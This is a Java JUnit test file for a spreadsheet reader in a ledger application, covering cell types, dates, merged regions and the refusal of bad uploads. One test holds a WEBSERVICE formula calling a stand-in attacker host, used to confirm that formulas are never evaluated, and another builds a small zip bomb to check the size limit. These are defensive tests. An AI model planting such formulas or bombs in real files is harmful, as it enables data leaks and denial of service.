package com.investtrack.ledger;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.xssf.streaming.SXSSFWorkbook;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFRichTextString;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

import com.investtrack.common.InvalidInputException;

/**
 * The streaming reader of .xlsx workbooks, on workbooks built here with POI's own writer
 * and on sheets written by hand as XML (rows and cells without references, inline text
 * with phonetic guides, ISO date cells, the 1904 date system), independently of the
 * exporter.
 */
class SheetReaderTest {

	@Test
	void valuesByTypeDatesByStyleAndSerialNumbersAsNumbers() throws IOException {
		try (XSSFWorkbook workbook = new XSSFWorkbook()) {
			XSSFSheet sheet = workbook.createSheet("台账");
			var date = workbook.createCellStyle();
			date.setDataFormat(workbook.getCreationHelper().createDataFormat().getFormat("yyyy\"年\"m\"月\"d\"日\""));
			var row = sheet.createRow(0);
			row.createCell(0).setCellValue("  项目名称\u3000");
			row.createCell(1).setCellValue(1.5);
			XSSFCell dated = row.createCell(2);
			dated.setCellValue(LocalDate.of(2025, 3, 5));
			dated.setCellStyle(date);
			row.createCell(3).setCellValue(45721);
			row.createCell(4).setCellValue(true);
			XSSFRichTextString rich = new XSSFRichTextString("荆门");
			rich.append("园区");
			row.createCell(5).setCellValue(rich);
			row.createCell(7).setCellValue("   ");
			sheet.createRow(2).createCell(1).setCellValue("third row");

			List<List<Object>> rows = SheetReader.read(bytes(workbook));

			assertThat(rows).hasSize(3);
			assertThat(rows.get(0)).containsExactly("项目名称", 1.5, LocalDate.of(2025, 3, 5), 45721.0, "true", "荆门园区");
			assertThat(rows.get(1)).isEmpty();
			assertThat(rows.get(2)).containsExactly(null, "third row");
		}
	}

	@Test
	void formulasAreReadAsTheirCachedValuesAndNeverEvaluated() throws IOException {
		try (XSSFWorkbook workbook = new XSSFWorkbook()) {
			var row = workbook.createSheet().createRow(0);
			XSSFCell number = row.createCell(0);
			number.setCellFormula("1+1");
			number.setCellValue(7);
			XSSFCell text = row.createCell(1);
			text.setCellFormula("WEBSERVICE(\"http://attacker.example\")");
			text.setCellValue("cached text");
			XSSFCell never = row.createCell(2);
			never.setCellFormula("2*3");
			row.createCell(3).setCellValue("after");

			List<Object> cells = SheetReader.read(bytes(workbook)).get(0);

			assertThat(cells).containsExactly(7.0, "cached text", null, "after");
		}
	}

	@Test
	void aMergedRegionsValueStandsInEveryCellOfTheRegion() throws IOException {
		try (XSSFWorkbook workbook = new XSSFWorkbook()) {
			XSSFSheet sheet = workbook.createSheet();
			sheet.createRow(0).createCell(0).setCellValue("台账");
			sheet.addMergedRegion(new CellRangeAddress(0, 0, 0, 2));
			for (int r = 1; r <= 4; r++) {
				sheet.createRow(r).createCell(0).setCellValue("project " + r);
			}
			sheet.getRow(1).createCell(1).setCellValue("JS-IMP");
			sheet.getRow(1).createCell(2).setCellValue("note");
			sheet.addMergedRegion(new CellRangeAddress(1, 3, 1, 1));
			// a region reaching far beyond the sheet's rows and columns fills only those
			sheet.addMergedRegion(new CellRangeAddress(1, 100_000, 2, 3_000));

			List<List<Object>> rows = SheetReader.read(bytes(workbook));

			assertThat(rows.get(0)).containsExactly("台账", "台账", "台账");
			assertThat(rows.get(1)).containsExactly("project 1", "JS-IMP", "note");
			assertThat(rows.get(2)).containsExactly("project 2", "JS-IMP", "note");
			assertThat(rows.get(3)).containsExactly("project 3", "JS-IMP", "note");
			assertThat(rows.get(4)).containsExactly("project 4", null, "note");
		}
	}

	@Test
	void theInlineStringsOfAStreamingWriterAreRead() throws IOException {
		try (SXSSFWorkbook workbook = new SXSSFWorkbook(10)) {
			var sheet = workbook.createSheet();
			for (int r = 0; r < 50; r++) {
				sheet.createRow(r).createCell(0).setCellValue("row " + r);
			}
			ByteArrayOutputStream out = new ByteArrayOutputStream();
			workbook.write(out);
			workbook.dispose();

			List<List<Object>> rows = SheetReader.read(out.toByteArray());

			assertThat(rows).hasSize(50);
			assertThat(rows.get(49)).containsExactly("row 49");
		}
	}

	@Test
	void aSheetWrittenByHandWithoutReferencesPhoneticGuidesIsoDatesAndThe1904System() throws IOException {
		String sheet = "<row><c t=\"inlineStr\"><is><r><t>招商</t></r><r><t>项目</t></r>"
				+ "<rPh sb=\"0\" eb=\"2\"><t>zhaoshang</t></rPh></is></c><c t=\"d\"><v>2025-03-05T00:00:00</v></c>"
				+ "<c t=\"e\"><v>#DIV/0!</v></c><c s=\"1\"><v>0</v></c></row>"
				+ "<row r=\"4\"><c r=\"C4\" t=\"b\"><v>0</v></c></row><row><c><v>-2.5</v></c></row>";

		List<List<Object>> rows = SheetReader.read(handMade(sheet, true, ""));

		assertThat(rows.get(0)).containsExactly("招商项目", LocalDate.of(2025, 3, 5), null, LocalDate.of(1904, 1, 1));
		assertThat(rows.get(1)).isEmpty();
		assertThat(rows.get(3)).containsExactly(null, null, "false");
		assertThat(rows.get(4)).containsExactly(-2.5);
	}

	@Test
	void cellsFarRightOfAnyLedgerAreIgnored() throws IOException {
		String sheet = "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>名称</t></is></c>"
				+ "<c r=\"XFD1\" t=\"inlineStr\"><is><t>stray</t></is></c></row>";

		assertThat(SheetReader.read(handMade(sheet, false, "")).get(0)).containsExactly("名称");
	}

	@Test
	void moreRowsThanTheLimitAreRefusedWhileReading() throws IOException {
		String last = "<row r=\"" + (SheetReader.MAX_ROWS + 10) + "\"><c><v>1</v></c></row>";
		assertThat(SheetReader.read(handMade(last, false, ""))).hasSize(SheetReader.MAX_ROWS + 10);
		String over = "<row r=\"" + (SheetReader.MAX_ROWS + 11) + "\"><c><v>1</v></c></row>";
		assertRefused(handMade(over, false, ""), "more than 20000 rows");
	}

	@Test
	void aSmallFileInflatingPastAHundredMegabytesIsRefused() throws IOException {
		byte[] bomb = handMade("<row><c><v>1</v></c></row>", false, " ".repeat(1 << 20), 110);
		assertThat(bomb.length).isLessThan(1024 * 1024);
		assertRefused(bomb, "zip bomb");
	}

	@Test
	void encryptedOldAndForeignFilesAreRefusedWithWhatToDo() throws Exception {
		byte[] workbook;
		try (XSSFWorkbook plain = new XSSFWorkbook()) {
			plain.createSheet().createRow(0).createCell(0).setCellValue("secret");
			workbook = bytes(plain);
		}
		try (POIFSFileSystem fs = new POIFSFileSystem()) {
			EncryptionInfo info = new EncryptionInfo(EncryptionMode.agile);
			var encryptor = info.getEncryptor();
			encryptor.confirmPassword("password");
			try (OutputStream out = encryptor.getDataStream(fs)) {
				out.write(workbook);
			}
			ByteArrayOutputStream encrypted = new ByteArrayOutputStream();
			fs.writeFilesystem(encrypted);
			assertRefused(encrypted.toByteArray(), "encrypted");
		}
		try (HSSFWorkbook xls = new HSSFWorkbook()) {
			xls.createSheet().createRow(0).createCell(0).setCellValue("old");
			ByteArrayOutputStream out = new ByteArrayOutputStream();
			xls.write(out);
			assertRefused(out.toByteArray(), "save it as .xlsx");
		}
		assertRefused("%PDF-1.4\n".getBytes(StandardCharsets.US_ASCII), "not an Excel workbook");
		assertRefused(new byte[0], "empty");
		ByteArrayOutputStream zip = new ByteArrayOutputStream();
		try (ZipOutputStream out = new ZipOutputStream(zip)) {
			out.putNextEntry(new ZipEntry("readme.txt"));
			out.write("not a workbook".getBytes(StandardCharsets.UTF_8));
		}
		assertRefused(zip.toByteArray(), "cannot be read as an Excel workbook");
		byte[] truncated = Arrays.copyOf(workbook, workbook.length / 2);
		assertRefused(truncated, "cannot be read as an Excel workbook");
	}

	private static void assertRefused(byte[] content, String reason) {
		assertThatThrownBy(() -> SheetReader.read(content))
			.isInstanceOfSatisfying(InvalidInputException.class, ex -> assertThat(ex.fields()).containsKey("file"))
			.hasMessageContaining(reason);
	}

	private static byte[] bytes(XSSFWorkbook workbook) throws IOException {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		workbook.write(out);
		return out.toByteArray();
	}

	private static byte[] handMade(String sheetData, boolean date1904, String padding) throws IOException {
		return handMade(sheetData, date1904, padding, 1);
	}

	/**
	 * The smallest .xlsx package Excel opens: content types, relations, a workbook with
	 * one sheet (and a style 1 formatting dates), the sheet's rows as given, and padding
	 * (whitespace, repeated) after them.
	 */
	private static byte[] handMade(String sheetData, boolean date1904, String padding, int repeat) throws IOException {
		String main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
		String rels = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
			entry(zip, "[Content_Types].xml",
					"<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
							+ "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package."
							+ "relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/>"
							+ "<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-"
							+ "officedocument.spreadsheetml.sheet.main+xml\"/><Override PartName=\"/xl/worksheets/"
							+ "sheet1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml."
							+ "worksheet+xml\"/><Override PartName=\"/xl/styles.xml\" ContentType=\"application/vnd."
							+ "openxmlformats-officedocument.spreadsheetml.styles+xml\"/></Types>");
			entry(zip, "_rels/.rels",
					"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
							+ "<Relationship Id=\"rId1\" Type=\"" + rels
							+ "/officeDocument\" Target=\"xl/workbook.xml\"/>" + "</Relationships>");
			entry(zip, "xl/workbook.xml",
					"<workbook xmlns=\"" + main + "\" xmlns:r=\"" + rels + "\"><workbookPr date1904=\""
							+ (date1904 ? 1 : 0) + "\"/><sheets><sheet name=\"台账\" sheetId=\"1\" r:id=\"rId1\"/>"
							+ "</sheets></workbook>");
			entry(zip, "xl/_rels/workbook.xml.rels",
					"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
							+ "<Relationship Id=\"rId1\" Type=\"" + rels
							+ "/worksheet\" Target=\"worksheets/sheet1.xml\"/>" + "<Relationship Id=\"rId2\" Type=\""
							+ rels + "/styles\" Target=\"styles.xml\"/>" + "</Relationships>");
			entry(zip, "xl/styles.xml", "<styleSheet xmlns=\"" + main
					+ "\"><fonts count=\"1\"><font/></fonts><fills count=\"1\"><fill/>"
					+ "</fills><borders count=\"1\"><border/></borders><cellXfs count=\"2\"><xf numFmtId=\"0\"/>"
					+ "<xf numFmtId=\"14\" applyNumberFormat=\"1\"/></cellXfs></styleSheet>");
			zip.putNextEntry(new ZipEntry("xl/worksheets/sheet1.xml"));
			zip.write(("<worksheet xmlns=\"" + main + "\"><sheetData>" + sheetData).getBytes(StandardCharsets.UTF_8));
			byte[] pad = padding.getBytes(StandardCharsets.UTF_8);
			for (int i = 0; i < repeat; i++) {
				zip.write(pad);
			}
			zip.write("</sheetData></worksheet>".getBytes(StandardCharsets.UTF_8));
			zip.closeEntry();
		}
		return bytes.toByteArray();
	}

	private static void entry(ZipOutputStream zip, String name, String xml) throws IOException {
		zip.putNextEntry(new ZipEntry(name));
		zip.write(xml.getBytes(StandardCharsets.UTF_8));
		zip.closeEntry();
	}

}
